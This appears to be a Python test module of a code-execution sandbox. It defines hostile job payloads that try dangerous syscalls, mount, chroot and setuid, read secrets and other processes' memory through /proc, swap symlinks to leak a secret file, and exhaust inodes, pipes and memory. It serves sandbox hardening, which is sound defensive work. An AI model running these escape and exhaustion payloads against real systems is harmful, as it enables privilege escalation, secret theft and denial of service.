"""Attacks beyond the start-up probes: kernel interfaces, exhaustion, races, and memory of jobs that came before."""

from __future__ import annotations

from reasonkit.sandbox.attacks import Attack
from reasonkit.sandbox.jobs import Limits

RAW = """
import ctypes, os, mmap, time
libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"
def syscall(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *arguments)
"""

KERNEL_INTERFACES = (
    RAW
    + """
def attack(scene):
    buffer = ctypes.create_string_buffer(256)
    calls = {
        "userfaultfd": (282 if ARM else 323, 1),
        "bpf": (280 if ARM else 321, 0, buffer, 128),
        "perf_event_open": (241 if ARM else 298, buffer, 0, -1, -1, 0),
        "keyctl": (219 if ARM else 250, 0, -3, 1),
        "add_key": (217 if ARM else 248, b"user", b"name", b"value", 5, -3),
        "process_madvise": (440, 1, buffer, 1, 4, 0),
        "pidfd_open": (434, os.getppid(), 0),
        "pidfd_open of the victim": (434, scene["victim"], 0),
        "memfd_secret": (447, 0),
        "open_by_handle_at": (265 if ARM else 304, -100, buffer, 0),
        "name_to_handle_at": (264 if ARM else 303, -100, b"/", buffer, buffer, 0),
        "shmget": (194 if ARM else 29, 1, 4096, 0o1600),
        "msgget": (186 if ARM else 68, 1, 0o1600),
        "mq_open": (180 if ARM else 240, b"queue", 0o102, 0o600, None),
        "seccomp listener": (277 if ARM else 317, 1, 8, buffer),
        "personality": (92 if ARM else 135, 0x0040000),
        "quotactl": (60 if ARM else 179, 0x800002, None, 0, None),
        "syslog": (116 if ARM else 103, 3, buffer, 200),
        "statmount and later": (460, buffer, 0, 0),
    }
    return [name for name, arguments in calls.items() if syscall(*arguments) >= 0]
"""
)

PRCTL = (
    RAW
    + """
def attack(scene):
    allowed = []
    for name, option, value in (
        ("parent death signal", 1, 0), ("dumpable", 4, 1), ("keep capabilities", 8, 1), ("child subreaper", 36, 1),
        ("ptracer", 0x59616D61, -1), ("ambient capability", 47, 2), ("securebits", 28, 0), ("mm map", 35, 1),
    ):
        if libc.prctl(option, ctypes.c_ulong(value & (2**64 - 1)), 21, 0, 0) == 0:
            allowed.append(name)
    if libc.prctl(38, 0, 0, 0, 0) == 0:
        allowed.append("new privileges again")
    return allowed
"""
)

SLOW_THE_WORKER = (
    RAW
    + """
def attack(scene):
    done = []
    for pid in (os.getppid(), 1, scene["victim"], scene["driver"]):
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
            done.append(["nice", pid])
        except OSError:
            pass
        try:
            os.sched_setaffinity(pid, {0})
            done.append(["affinity", pid])
        except OSError:
            pass
        try:
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
            done.append(["scheduler", pid])
        except OSError:
            pass
        if syscall(30 if ARM else 251, 1, pid, 3 << 13) == 0:
            done.append(["io priority", pid])
    try:
        os.setpriority(os.PRIO_USER, 0, 19)
        done.append("nice of the user")
    except OSError:
        pass
    return done
"""
)

THIRTY_TWO_BITS = (
    RAW
    + """
def attack(scene):
    if ARM:
        return []
    if syscall(0x40000000 | 39) > 0:
        return "x32"
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("b814000000" "cd80" "c3"))  # getpid through int 0x80
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    return "int 0x80" if pid > 0 else ""
"""
)

MEMFD_EXEC = (
    RAW
    + """
def attack(scene):
    done = []
    memory = syscall(279 if ARM else 319, b"program", 0)
    if memory >= 0:
        done.append("memfd_create")
    try:
        os.execv("/bin/true", ["true"])
    except OSError:
        pass
    try:
        os.posix_spawn("/bin/true", ["true"], {})
        done.append("spawn")
    except OSError:
        pass
    return done
"""
)

MOUNT_AND_ROOT = (
    RAW
    + """
def attack(scene):
    done = []
    if libc.mount(b"none", b"/box", b"tmpfs", 0, None) == 0:
        done.append("mount")
    if libc.umount2(b".", 2) == 0 or libc.umount2(b"/proc", 2) == 0:
        done.append("unmount")
    if libc.chroot(b".") == 0:
        done.append("chroot")
    if syscall(428, -100, b"/", 1) >= 0 or syscall(430, b"tmpfs", 0) >= 0:
        done.append("new mount calls")
    for call in (os.setuid, os.setgid):
        try:
            call(0)
            done.append(call.__name__)
        except OSError:
            pass
    try:
        os.mknod("disk", 0o60600, os.makedev(254, 0))
        done.append("device")
    except OSError:
        pass
    return done
"""
)

THROUGH_PROC = """
import os
def attack(scene):
    got = []
    for pid in ("1", str(os.getppid()), str(scene["victim"]), str(scene["driver"])):
        for name in ("root/etc/passwd", "root" + scene["secret_file"], "cwd/etc/passwd", "mem", "maps", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    if file.read(16):
                        got.append([pid, name])
            except OSError:
                pass
        try:
            got += [[pid, name] for name in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/uid_map"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            got.append(path)
        except OSError:
            pass
    try:
        os.close(os.open("/dev/tty", os.O_RDWR))
        got.append("/dev/tty")
    except OSError:
        pass
    return got
"""

INODES_AND_DEPTH = """
import os
def attack(scene):
    made = 0
    try:
        for number in range(200000):
            open(f"f{number}", "w").close()
            made += 1
    except OSError:
        pass
    try:
        for depth in range(3000):
            os.mkdir("d" * 50)
            os.chdir("d" * 50)
    except OSError:
        pass
    try:
        os.chmod(".", 0)
        os.chmod("..", 0)
    except OSError:
        pass
    return made >= 200000
"""

LOCKED_FOLDERS = """
import os
def attack(scene):
    if os.path.exists("a"):
        return "still there"
    os.makedirs("a/b/c/d")
    open("a/b/file", "w").close()
    os.symlink(scene["folder"], "a/b/c/outside")
    for name in ("a/b/c/d", "a/b/c", "a/b", "a", "."):
        os.chmod(name, 0)
"""

DESCRIPTORS_AND_PIPES = """
import fcntl, os
def attack(scene):
    held = 0
    try:
        for _ in range(5000):
            reader, writer = os.pipe()
            try:
                fcntl.fcntl(writer, 1031, 1 << 20)
            except OSError:
                pass
            os.set_blocking(writer, False)
            try:
                while True:
                    held += os.write(writer, b"x" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    return held > 1 << 29
"""

MEMORY_IN_CHILDREN = """
import mmap, os, time
def attack(scene):
    full, tell = os.pipe()
    for _ in range(8):
        if os.fork() == 0:
            hoard = mmap.mmap(-1, 200 << 20)  # shared, so no limit of one process counts it
            for page in range(0, 200 << 20, 4096):
                hoard[page] = 1
            os.write(tell, b".")
            time.sleep(60)
            os._exit(0)
    for _ in range(8):
        os.read(full, 1)
    time.sleep(0.5)
    return "hoarded"
"""

RACE_THE_COLLECTOR = """
import os, sys
secret = sys.stdin.read()
open("honest.txt", "w").write("honest")
for _ in range(4):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        while True:
            try:
                os.symlink(secret, "swap")
                os.rename("swap", "taken.txt")
                open("plain", "w").close()
                os.rename("plain", "taken.txt")
                os.unlink("taken.txt")
            except OSError:
                pass
"""

CLOSE_EVERYTHING = """
import os
def attack(scene):
    os.closerange(0, 1024)
"""

SLEEP_IN_THREADS = """
import atexit, threading, time
atexit.register(time.sleep, 60)
threading.Thread(target=time.sleep, args=(60,)).start()
time.sleep(60)
def attack(scene):
    return "woke up"
"""

HOSTILE_OBJECTS = """
import sys
class Endless(Exception):
    def __str__(self):
        while True:
            pass
def attack(scene):
    raise Endless
"""

CORE_AND_OOM = """
import os, resource
def attack(scene):
    done = []
    for name, value in (("oom_score_adj", "-1000"), ("coredump_filter", "0xff"), ("oom_adj", "-17")):
        try:
            with open(f"/proc/self/{name}", "w") as file:
                file.write(value)
            done.append(name)
        except OSError:
            pass
    return done
"""

_CHILDREN = Limits(cpu_seconds=4.0, wall_seconds=8.0, processes=True, memory_mb=512)
_SHORT = Limits(cpu_seconds=0.4, wall_seconds=0.6)

MORE_ATTACKS = (
    Attack("kernel interfaces", KERNEL_INTERFACES),
    Attack("prctl", PRCTL),
    Attack("slow the worker down", SLOW_THE_WORKER),
    Attack("32-bit and x32 calls", THIRTY_TWO_BITS),
    Attack("exec from memory", MEMFD_EXEC),
    Attack("mount, chroot, devices", MOUNT_AND_ROOT),
    Attack("through /proc", THROUGH_PROC),
    Attack("inodes and deep folders", INODES_AND_DEPTH, Limits(cpu_seconds=10.0, wall_seconds=20.0)),
    Attack("locked folders", LOCKED_FOLDERS, twice=True),
    Attack("descriptors and pipes", DESCRIPTORS_AND_PIPES),
    Attack("shared memory in children", MEMORY_IN_CHILDREN, _CHILDREN),
    Attack("race the collector", RACE_THE_COLLECTOR, _CHILDREN, program=True),
    Attack("close all descriptors", CLOSE_EVERYTHING),
    Attack("sleep everywhere", SLEEP_IN_THREADS, _SHORT),
    Attack("endless error message", HOSTILE_OBJECTS, _SHORT),
    Attack("out-of-memory score", CORE_AND_OOM),
)
